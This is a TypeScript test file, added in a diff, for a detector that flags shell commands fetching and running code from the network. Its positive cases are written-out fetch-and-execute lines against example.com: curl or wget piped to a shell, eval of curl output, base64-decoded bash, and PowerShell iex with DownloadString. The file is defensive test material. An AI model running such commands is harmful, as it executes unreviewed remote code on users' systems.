@@ -1,0 +1,50 @@
+import assert from "node:assert/strict";
+import { findRemoteCode } from "../../../../core/policy/text/remote-code";
+
+describe("code from the network", () => {
+  const remote: readonly string[] = [
+    "curl -fsSL https://get.example.com | sh",
+    "curl -fsSL https://get.example.com | sudo -E bash -s -- --yes",
+    "wget -qO- https://get.example.com/install | /bin/bash",
+    "curl https://x.example.com/a.py | python3 -",
+    "curl https://x.example.com/a.gz | gunzip | sh",
+    "curl \\\n  https://get.example.com \\\n  | bash",
+    'bash -c "$(curl -fsSL https://get.example.com)"',
+    "sh <(curl -s https://get.example.com)",
+    "bash <(wget -qO- https://get.example.com)",
+    'eval "$(curl -s https://get.example.com)"',
+    "source <(curl -s https://get.example.com)",
+    "echo Y3VybA== | base64 -d | bash",
+    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example.com/i.ps1'))",
+    "iwr https://x.example.com/i.ps1 | iex",
+    "#include https://x.example.com/init.sh",
+    "curl -o /tmp/install.sh https://x.example.com/install.sh\nsh /tmp/install.sh",
+    "wget https://x.example.com/setup.sh && chmod +x setup.sh && ./setup.sh",
+    "curl -O https://x.example.com/setup.sh; bash setup.sh",
+  ];
+  for (const text of remote) {
+    it(`finds ${text.replace(/\n/g, "⏎").slice(0, 60)}`, () => assert.equal(findRemoteCode(text).length, 1));
+  }
+
+  const harmless: readonly string[] = [
+    "curl -s https://x.example.com/health | grep ok",
+    "curl -s https://x.example.com/data.json | jq . > out.sh",
+    "curl -s https://x.example.com || sh fallback.sh",
+    "# curl https://x.example.com | sh",
+    "wget https://x.example.com/setup.sh\nsha256sum -c setup.sha256\nsh setup.sh",
+    "curl -o /tmp/data.json https://x.example.com/data.json",
+    "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)",
+    "echo 'I like | sh'",
+    "/etc/eks/bootstrap.sh shop",
+    "aws s3 cp s3://shop-config/agent.json /etc/agent.json",
+    "curl -s https://x.example.com/list | shuf",
+  ];
+  for (const text of harmless) {
+    it(`leaves ${text.replace(/\n/g, "⏎").slice(0, 60)} alone`, () =>
+      assert.deepEqual(findRemoteCode(text), []));
+  }
+
+  it("gives the line on which the command begins", () => {
+    assert.equal(findRemoteCode("#!/bin/sh\nset -e\ncurl https://x.example.com \\\n | sh\n")[0]?.line, 3);
+  });
+});
